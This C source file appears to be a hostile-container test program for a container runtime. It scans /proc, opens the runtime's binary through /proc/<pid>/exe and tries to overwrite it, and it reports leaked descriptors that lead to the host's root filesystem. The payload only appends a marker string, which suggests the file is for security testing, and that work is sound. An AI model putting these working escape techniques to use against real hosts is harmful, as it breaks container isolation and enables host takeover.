/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The program of a hostile container: as long as it runs it looks at all processes but the first one.
 * A program that is not in the container is the runtime entering: its binary is opened and, from then
 * on, again and again reopened for writing.  Descriptors from which the host's root can be reached are
 * reported.  "attack curious" also reports when it may look into one at all, which CAP_SYS_PTRACE allows where there is no
 * user namespace.
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int binary = -1;
static int curious; /* to be let look at it is worth a word */

/* Goes up from a directory as far as possible; true if that is not our root: the host's is within reach. */
static int leads_out(int dir, const struct stat *root)
{
	struct stat here, up;

	for (int i = 0; i < 64 && fstat(dir, &here) == 0; i++) {
		int parent = openat(dir, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);

		close(dir);
		dir = parent;
		if (parent < 0 || fstat(parent, &up) < 0)
			return 0;
		if (up.st_dev == here.st_dev && up.st_ino == here.st_ino) {
			close(parent);
			return up.st_dev != root->st_dev || up.st_ino != root->st_ino;
		}
	}
	return 0;
}

static void look_at_fd(const char *pid, const char *fd, const struct stat *root)
{
	char path[600], target[4096];
	ssize_t n;
	int dir;

	if (atoi(fd) < 3)
		return;
	snprintf(path, sizeof path, "/proc/%s/fd/%s", pid, fd);
	n = readlink(path, target, sizeof target - 1);
	target[n < 0 ? 0 : n] = '\0';
	dir = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (dir < 0 || !leads_out(dir, root))
		return;
	printf("a descriptor of the runtime leads out: %s\n", target);
	fflush(stdout);
}

static void look_at_binary(const char *pid)
{
	char path[600], target[4096];
	ssize_t n;

	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	n = readlink(path, target, sizeof target - 1);
	target[n < 0 ? 0 : n] = '\0';
	if (n <= 0 || strcmp(target, "/guest") == 0 || strcmp(target, "/attack") == 0)
		return;
	/* The link is read with the right that tracing takes (ptrace(2), PTRACE_MODE_READ_FSCREDS). */
	if (curious)
		printf("looked into the runtime\n");
	fflush(stdout);
	if (binary < 0)
		binary = open(path, O_RDONLY | O_CLOEXEC);
}

static void overwrite_binary(void)
{
	char path[64];
	int fd;

	if (binary < 0)
		return;
	snprintf(path, sizeof path, "/proc/self/fd/%d", binary);
	fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
	if (fd < 0)
		return;
	if (write(fd, "attacked", 8) == 8)
		printf("overwrote the runtime\n");
	fflush(stdout);
	close(fd);
}

static void look_at(const char *pid, const struct stat *root)
{
	char path[600];
	struct dirent *f;
	DIR *fds;

	look_at_binary(pid);
	snprintf(path, sizeof path, "/proc/%s/fd", pid);
	fds = opendir(path);
	while (fds && (f = readdir(fds)))
		look_at_fd(pid, f->d_name, root);
	if (fds)
		closedir(fds);
}

int main(int argc, char **argv)
{
	struct stat root;

	curious = argc > 1 && strcmp(argv[1], "curious") == 0;
	if (stat("/", &root) < 0)
		return 1;
	printf("ready\n");
	fflush(stdout);
	for (;;) {
		DIR *proc = opendir("/proc");
		struct dirent *d;

		while (proc && (d = readdir(proc)))
			if (atoi(d->d_name) > 1)
				look_at(d->d_name, &root);
		if (proc)
			closedir(proc);
		overwrite_binary();
	}
}
